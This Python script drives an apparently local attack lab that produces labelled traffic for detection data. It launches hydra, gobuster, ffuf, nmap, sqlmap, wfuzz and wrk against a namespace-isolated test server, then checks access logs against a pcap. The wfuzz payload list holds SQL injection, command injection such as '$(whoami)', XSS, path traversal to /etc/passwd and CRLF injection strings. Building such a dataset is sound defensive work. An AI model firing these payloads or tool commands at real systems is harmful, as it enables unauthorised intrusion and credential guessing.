#!/usr/bin/env python3
"""lab_driver.py - plan, run and label one seed of the attack lab.

  lab_driver.py plan SEED WORK           -> WORK/plan.json (+ word lists, users)
  lab_driver.py run WORK                 runs benign clients and attacks
                                         (namespaces must exist), WORK/run.json
  lab_driver.py finish WORK ACCESS PCAP LABELS
                                         labels from the access log + checks

The plan decides, from the seed: which addresses of 10.77.0.10-60 are benign
and which attack, each attack's start offset, and the word lists (subsets of
dirb's common.txt and nmap's passwords.lst). Namespaces: benign clients share
atlab-ben (one veth with every benign address); each attack has its own
namespace atlab-aNN with exactly one address, so tools that cannot bind a
source address (hydra, gobuster, ffuf, nmap, sqlmap, wfuzz, wrk) still use it.
"""

import json
import os
import random
import re
import struct
import subprocess
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
SERVER = "10.77.0.1"
PY = sys.executable
BENIGN_N = 20
LAB_SECONDS = 95         # benign clients run this long
WARMUP = 20              # attacks start after this

# name, tool, expected, typical duration (s), hard timeout (s)
ATTACKS = [
    ("hydra-brute-force", "hydra", ["brute_force"], 15, 60),
    ("credential-stuffing", "python", ["credential_stuffing"], 25, 60),
    ("account-takeover", "python", ["brute_force", "account_takeover"], 20, 60),
    ("bola-walk", "python", ["enumeration"], 15, 60),
    ("lookup-oracle", "python", ["enumeration"], 15, 60),
    ("gobuster-dir", "gobuster", ["forced_browsing", "scanner"], 10, 45),
    ("ffuf-dir", "ffuf", ["forced_browsing", "scanner"], 10, 45),
    ("nmap-http-enum", "nmap", ["forced_browsing", "scanner"], 30, 60),
    ("sqlmap-injection", "sqlmap", ["injection", "scanner"], 45, 50),
    ("wfuzz-injection", "wfuzz", ["injection", "scanner"], 10, 45),
    ("injection-mix", "python", ["injection"], 20, 60),
    ("ssrf-webhooks", "python", ["ssrf"], 15, 45),
    ("wrk-rate-abuse", "wrk", ["rate_abuse"], 5, 20),
    ("auth-bypass-reports", "python", ["auth_bypass"], 12, 45),
    ("export-scrape", "python", ["data_exposure"], 15, 45),
    ("low-and-slow", "python", ["enumeration"], 80, 95),
]
LONG = {"sqlmap-injection", "nmap-http-enum"}

WFUZZ_PAYLOADS = ["'", "''", "' OR '1'='1", "' OR 1=1-- -", "\" OR 1=1-- -", "1' AND '1'='2", "1 AND 1=1",
                  "' UNION SELECT NULL-- -", "' UNION SELECT NULL,NULL-- -", "admin'--", "1' ORDER BY 10-- -",
                  "'; EXEC xp_cmdshell('dir')--", "1' AND SLEEP(3)#", ";id", "|id", "`id`", "$(whoami)",
                  "<script>alert(1)</script>", "<svg/onload=alert(1)>", "{{7*7}}", "${7*7}",
                  "../../../../etc/passwd", "....//....//etc/passwd", "%27", "%22", "\\", "[]", "{}",
                  "{\"$ne\":null}", "true", "null", "-1", "0x7fffffff", "A" * 300, "%00", "%0d%0aSet-Cookie:x=1"]


def wlist(path, skipcomments=False):
    out = []
    for w in open(path, encoding="latin-1"):
        w = w.strip()
        if not w or (skipcomments and w.startswith("#!")):
            continue
        out.append(w)
    return out


def cmd_plan(seed, work):
    rnd = random.Random(seed)
    pool = ["10.77.0.%d" % i for i in range(10, 61)]
    rnd.shuffle(pool)
    benign = sorted(pool[:BENIGN_N], key=lambda a: int(a.split(".")[-1]))
    att_addrs = pool[BENIGN_N:BENIGN_N + len(ATTACKS)]
    # staggered starts: low-and-slow starts right after the warm-up and runs
    # to the end; the others get evenly spread slots with jitter, the long
    # tools (sqlmap, nmap) in the first half so they end with the lab.
    others = [a for a in ATTACKS if a[0] != "low-and-slow"]
    n = len(others)
    slots = [WARMUP + 3 + i * (LAB_SECONDS - WARMUP - 28) / (n - 1) for i in range(n)]
    early = slots[: n // 2]
    longs = [a for a in others if a[0] in LONG]
    rest = [a for a in others if a[0] not in LONG]
    rnd.shuffle(rest)
    long_slots = rnd.sample(early, len(longs))
    rest_slots = [s for s in slots if s not in long_slots]
    sched = list(zip(longs, long_slots)) + list(zip(rest, rest_slots))
    sched.append((ATTACKS[-1], WARMUP + rnd.uniform(0, 3)))
    sched.sort(key=lambda x: x[1])
    attacks = []
    for i, (a, off) in enumerate(sched):
        attacks.append({"name": a[0], "tool": a[1], "expected": a[2], "offset": round(off + rnd.uniform(-1.5, 1.5), 2),
                        "timeout": a[4], "address": att_addrs[i], "ns": "atlab-a%02d" % (i + 1),
                        "ifname": "atl-a%02d" % (i + 1)})
    # word lists (seeded subsets)
    common = wlist("/usr/share/dirb/wordlists/common.txt")
    extra = ["api", "api/v1", "api/v1/health", "login", "admin", "robots.txt", "index.html"]
    dirs = sorted(set(rnd.sample(common, 400) + extra))
    open(os.path.join(work, "dirs.txt"), "w").write("\n".join(dirs) + "\n")
    dirs2 = sorted(set(rnd.sample(common, 400) + extra))
    open(os.path.join(work, "dirs2.txt"), "w").write("\n".join(dirs2) + "\n")
    pws = wlist("/usr/share/nmap/nselib/data/passwords.lst", True)
    s = rnd.randrange(0, len(pws) - 200)
    open(os.path.join(work, "passwords.txt"), "w").write("\n".join(pws[s:s + 200]) + "\n")
    wf = list(WFUZZ_PAYLOADS)
    rnd.shuffle(wf)
    open(os.path.join(work, "wfuzz.txt"), "w").write("\n".join(wf) + "\n")
    subprocess.check_call([PY, os.path.join(HERE, "lab_api.py"), "--seed", str(seed),
                           "--dump-users", os.path.join(work, "users.json")])
    users = json.load(open(os.path.join(work, "users.json")))
    accts = sorted(n for n in users["accounts"] if users["accounts"][n]["role"] != "admin")
    plan = {"seed": seed, "server": SERVER, "benign": benign, "lab_seconds": LAB_SECONDS,
            "attacks": attacks, "hydra_user": rnd.choice(accts),
            "sqlmap_q": rnd.choice(["phone", "cable", "pro", "mini"]),
            "wrk_requests": rnd.randint(700, 900), "nmap_category": rnd.choice(["cms", "database", "management"])}
    json.dump(plan, open(os.path.join(work, "plan.json"), "w"), indent=1)


def tool_cmd(a, plan, work):
    S = plan["server"]
    W = lambda f: os.path.join(work, f)  # noqa: E731
    n = a["name"]
    if a["tool"] == "python":
        dur = a["timeout"] - 5 if n != "low-and-slow" else plan["lab_seconds"] - a["offset"] - 3
        return [PY, os.path.join(HERE, "lab_clients.py"), "attack", n, "--addr", a["address"],
                "--seed", str(plan["seed"]), "--users", W("users.json"), "--duration", "%.1f" % dur,
                "--server", S]
    if n == "hydra-brute-force":
        return ["hydra", "-l", plan["hydra_user"], "-P", W("passwords.txt"), "-t", "4", "-s", "80", "-I",
                S, "http-post-form", "/api/v1/login:username=^USER^&password=^PASS^:F=invalid credentials"]
    if n == "gobuster-dir":
        return ["gobuster", "dir", "-u", "http://%s/" % S, "-w", W("dirs.txt"), "-t", "4", "-q", "-z",
                "--no-error", "--timeout", "5s"]
    if n == "ffuf-dir":
        return ["ffuf", "-u", "http://%s/FUZZ" % S, "-w", W("dirs2.txt"), "-t", "4", "-s",
                "-mc", "200,204,301,302,307,401,403,405,500"]
    if n == "nmap-http-enum":
        return ["nmap", "-n", "-Pn", "-sT", "-p", "80", "--script", "http-enum", "--script-args",
                "http-enum.category=" + plan["nmap_category"], "--script-timeout", "40s", S]
    if n == "sqlmap-injection":
        return ["sqlmap", "-u", "http://%s/api/v1/products?q=%s&limit=5" % (S, plan["sqlmap_q"]),
                "--batch", "--level", "1", "--risk", "1", "--answers", "extending=N", "--output-dir", W("sqlmap-out"),
                "--disable-coloring"]
    if n == "wfuzz-injection":
        return ["wfuzz", "-z", "file," + W("wfuzz.txt"), "-t", "2", "--hc", "404",
                "http://%s/api/v1/products?q=FUZZ&limit=5" % S]
    if n == "wrk-rate-abuse":
        lua = W("wrk-cap.lua")
        open(lua, "w").write(
            "-- stop after N responses in total (4 connections, 1 thread)\n"
            "local n = 0\nlocal max = %d\n"
            "function response(status, headers, body)\n  n = n + 1\n"
            "  if n >= max then wrk.thread:stop() end\nend\n" % plan["wrk_requests"])
        return ["wrk", "-t1", "-c4", "-d5s", "-s", lua, "http://%s/api/v1/products?limit=3" % S]
    raise SystemExit("unknown attack " + n)


def cmd_run(work):
    plan = json.load(open(os.path.join(work, "plan.json")))
    env = dict(os.environ, HOME=os.path.join(work, "home"), PYTHONDONTWRITEBYTECODE="1")
    os.makedirs(env["HOME"], exist_ok=True)
    t0 = time.time()
    logs = os.path.join(work, "logs")
    os.makedirs(logs, exist_ok=True)
    ben = subprocess.Popen(["ip", "netns", "exec", "atlab-ben", "timeout", str(plan["lab_seconds"] + 40), PY,
                            os.path.join(HERE, "lab_clients.py"), "benign", ",".join(plan["benign"]),
                            "--seed", str(plan["seed"]), "--users", os.path.join(work, "users.json"),
                            "--duration", str(plan["lab_seconds"]), "--server", plan["server"]],
                           stdout=open(os.path.join(logs, "benign.out"), "w"), stderr=subprocess.STDOUT, env=env)
    pending = sorted(plan["attacks"], key=lambda a: a["offset"])
    running = {}
    info = {"t0": t0, "attacks": {}}
    while pending or running:
        now = time.time()
        while pending and now - t0 >= pending[0]["offset"]:
            a = pending.pop(0)
            cmd = ["ip", "netns", "exec", a["ns"], "timeout", "-k", "5", str(a["timeout"])] + tool_cmd(a, plan, work)
            out = open(os.path.join(logs, a["name"] + ".out"), "w")
            p = subprocess.Popen(cmd, stdout=out, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL,
                                 env=env, cwd=work)
            running[a["name"]] = p
            info["attacks"][a["name"]] = {"launched": time.time(), "cmd": cmd[8:]}
            print("[%5.1fs] start %-20s %s %s" % (time.time() - t0, a["name"], a["address"], " ".join(cmd[8:])),
                  flush=True)
        for name, p in list(running.items()):
            rc = p.poll()
            if rc is not None:
                info["attacks"][name].update(exited=time.time(), rc=rc)
                print("[%5.1fs] done  %-20s rc=%d" % (time.time() - t0, name, rc), flush=True)
                del running[name]
        time.sleep(0.05)
    ben.wait()
    info["benign_rc"] = ben.returncode
    info["t_end"] = time.time()
    json.dump(info, open(os.path.join(work, "run.json"), "w"), indent=1)
    print("[%5.1fs] all clients done (benign rc=%d)" % (time.time() - t0, ben.returncode), flush=True)


# --- pcap request count (independent of the log) ---------------------------
REQ_RE = re.compile(rb"(?:GET|POST|HEAD|PUT|DELETE|OPTIONS|PATCH|TRACE|CONNECT|PROPFIND) [^ \r\n]+ HTTP/1\.[01]\r\n")


def pcap_requests(path, server):
    f = open(path, "rb")
    gh = f.read(24)
    magic = struct.unpack("<I", gh[:4])[0]
    end = "<" if magic in (0xA1B2C3D4, 0xA1B23C4D) else ">"
    srv = bytes(int(x) for x in server.split("."))
    streams = {}
    frames = 0
    while True:
        h = f.read(16)
        if len(h) < 16:
            break
        _, _, incl, _ = struct.unpack(end + "IIII", h)
        d = f.read(incl)
        frames += 1
        if len(d) < 34 or d[12:14] != b"\x08\x00":
            continue
        ip = d[14:]
        ihl = (ip[0] & 15) * 4
        if ip[9] != 6 or ip[16:20] != srv:
            continue
        tcp = ip[ihl:]
        dport = struct.unpack(">H", tcp[2:4])[0]
        if dport != 80:
            continue
        seq = struct.unpack(">I", tcp[4:8])[0]
        tot = struct.unpack(">H", ip[2:4])[0]
        payload = tcp[(tcp[12] >> 4) * 4: tot - ihl]
        if payload:
            key = (ip[12:16], tcp[0:2])
            streams.setdefault(key, {})[seq] = payload  # retransmissions overwrite
    counts = {}
    for (src, _), segs in streams.items():
        data = b"".join(segs[s] for s in sorted(segs))
        a = ".".join(str(b) for b in src)
        counts[a] = counts.get(a, 0) + len(REQ_RE.findall(data))
    return frames, counts


def cmd_finish(work, access, pcap, labels_path):
    plan = json.load(open(os.path.join(work, "plan.json")))
    run = json.load(open(os.path.join(work, "run.json")))
    recs = [json.loads(l) for l in open(access) if l.strip()]
    by = {}
    for r in recs:
        by.setdefault(r["client_ip"], []).append(r)
    attacks = []
    problems = []
    frames, pc = pcap_requests(pcap, plan["server"])
    # minimum plausible request counts per attack (bounded tools may stop early)
    mins = {"hydra-brute-force": 150, "credential-stuffing": 140, "account-takeover": 35, "bola-walk": 390,
            "lookup-oracle": 290, "gobuster-dir": 380, "ffuf-dir": 380, "nmap-http-enum": 60,
            "sqlmap-injection": 40, "wfuzz-injection": 30, "injection-mix": 50, "ssrf-webhooks": 15,
            "wrk-rate-abuse": 300, "auth-bypass-reports": 25, "export-scrape": 7, "low-and-slow": 45}
    for a in plan["attacks"]:
        rs = by.get(a["address"], [])
        ri = run["attacks"].get(a["name"], {})
        e = {"address": a["address"], "name": a["name"], "tool": a["tool"], "expected": a["expected"]}
        if rs:
            e["start"] = round(min(r["ts"] - r["request_time"] for r in rs), 3)
            e["end"] = round(max(r["ts"] for r in rs), 3)
        else:
            e["start"] = e["end"] = None
        st = {}
        for r in rs:
            st[str(r["status"])] = st.get(str(r["status"]), 0) + 1
        e.update(requests=len(rs), pcap_requests=pc.get(a["address"], 0), statuses=dict(sorted(st.items())),
                 launched=round(ri.get("launched", 0), 3), exited=round(ri.get("exited", 0), 3),
                 exit_code=ri.get("rc"), command=" ".join(ri.get("cmd", [])).replace(work, "WORK"))
        if len(rs) < mins.get(a["name"], 1):
            problems.append("%s (%s): only %d requests" % (a["name"], a["address"], len(rs)))
        attacks.append(e)
    known = set(plan["benign"]) | {a["address"] for a in plan["attacks"]}
    strangers = sorted(set(by) - known)
    if strangers:
        problems.append("requests from unknown addresses: %s" % strangers)
    ben_counts = {b: len(by.get(b, [])) for b in plan["benign"]}
    for b, n in ben_counts.items():
        if n < 15:
            problems.append("benign %s: only %d requests" % (b, n))
    logc = {k: len(v) for k, v in by.items()}
    names = {a["address"]: a["name"] for a in plan["attacks"]}
    for addr in sorted(set(pc) | set(logc)):
        x, y = pc.get(addr, 0), logc.get(addr, 0)
        # nginx cannot log more than was sent. nmap pipelines its probes and
        # nginx closes the connection after answering a malformed one with
        # 400, so the rest of that pipeline is sent but never served/logged.
        pipelined = names.get(addr) == "nmap-http-enum"
        if y > x + 2 or (x > y * 1.05 + 2 and not pipelined):
            problems.append("%s: %d requests in the pcap, %d in the log" % (addr, x, y))
    personas = {}
    try:  # lab_clients.py benign prints {address: {"persona", "account", "requests", "statuses"}}
        for addr, v in json.load(open(os.path.join(work, "logs", "benign.out"))).items():
            if isinstance(v, dict) and "persona" in v:
                personas[addr] = v["persona"]
    except (OSError, ValueError):
        problems.append("benign.out unreadable: no personas")
    labels = {"seed": plan["seed"], "server": plan["server"] + ":80", "benign": plan["benign"],
              "benign_personas": personas,
              "attacks": sorted(attacks, key=lambda e: e["start"] or 0),
              "lab_start": round(run["t0"], 3), "lab_end": round(run["t_end"], 3),
              "requests": len(recs), "benign_requests": sum(ben_counts.values()),
              "benign_per_address": ben_counts, "pcap_frames": frames,
              "pcap_requests": sum(pc.values()), "check_problems": problems}
    json.dump(labels, open(labels_path, "w"), indent=1)
    print("requests in log: %d (benign %d), in pcap: %d, frames: %d" % (len(recs), sum(ben_counts.values()),
                                                                        sum(pc.values()), frames))
    for e in labels["attacks"]:
        print("  %-20s %-12s %5d req  %s" % (e["name"], e["address"], e["requests"], e["statuses"]))
    for p in problems:
        print("CHECK: " + p)
    return 1 if problems else 0


def main():
    c = sys.argv[1]
    if c == "plan":
        cmd_plan(int(sys.argv[2]), sys.argv[3])
    elif c == "run":
        cmd_run(sys.argv[2])
    elif c == "finish":
        sys.exit(cmd_finish(*sys.argv[2:6]))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
